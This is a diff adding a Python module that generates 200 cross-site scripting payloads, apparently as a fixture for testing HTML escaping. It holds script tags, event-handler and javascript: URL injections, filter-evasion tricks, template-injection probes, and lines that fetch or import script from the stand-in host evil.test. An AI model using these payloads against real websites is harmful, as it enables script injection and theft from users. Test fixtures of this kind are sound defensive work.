@@ -1,0 +1,58 @@
+"""Two hundred strings that mean harm where somebody forgets to escape them."""
+
+_SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.test')", "import('//evil.test/x.js')")
+_TAGS = (
+    "<script>{0}</script>",
+    "<SCRIPT SRC=//evil.test/x.js>{0}</SCRIPT>",
+    "<scr<script>ipt>{0}</scr</script>ipt>",
+    "<img src=x onerror={0}>",
+    "<img/src=`x`/onerror={0}>",
+    "<svg onload={0}>",
+    "<svg><script>{0}</script></svg>",
+    "<svg><animate onbegin={0} attributeName=x dur=1s>",
+    "<math><mtext></p><img src onerror={0}>",
+    "<body onload={0}>",
+    "<iframe srcdoc='<script>{0}</script>'>",
+    "<iframe src=javascript:{0}>",
+    "<a href=javascript:{0}>x</a>",
+    "<a href='java\tscript:{0}'>x</a>",
+    "<form action=javascript:{0}><button>x</button></form>",
+    "<button formaction=javascript:{0}>x</button>",
+    "<details open ontoggle={0}>",
+    "<input autofocus onfocus={0}>",
+    "<video><source onerror={0}>",
+    "<marquee onstart={0}>",
+    "<object data=javascript:{0}>",
+    "<embed src=javascript:{0}>",
+    "<base href=//evil.test/><a href=x>{0}</a>",
+    "<meta http-equiv=refresh content='0;javascript:{0}'>",
+    "<link rel=stylesheet href=//evil.test/x.css>{0}",
+    "<style>@import '//evil.test/x.css';{0}</style>",
+    "<template><script>{0}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
+    "<!--><img src=x onerror={0}>-->",
+    "<![CDATA[><script>{0}</script>]]>",
+    "</textarea><script>{0}</script>",
+    "</title><script>{0}</script>",
+    "</bdi></p></main><script>{0}</script>",
+    '"><script>{0}</script>',
+    "'><script>{0}</script>",
+    '" autofocus onfocus="{0}',
+    "' onmouseover='{0}",
+    "` onmouseover=`{0}`",
+)
+_OTHERS = (
+    '"></bdi><div data-part="page.name">',
+    '" data-slot="page.main">',
+    'once=once"',
+    "once=once",
+    '<div data-part="page.wand.mine-write"></div>',
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u202e<script>\u2066alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+)
+
+PAYLOADS = tuple(dict.fromkeys([tag.format(script) for tag in _TAGS for script in _SCRIPTS] + list(_OTHERS)))
+assert len(PAYLOADS) == 200
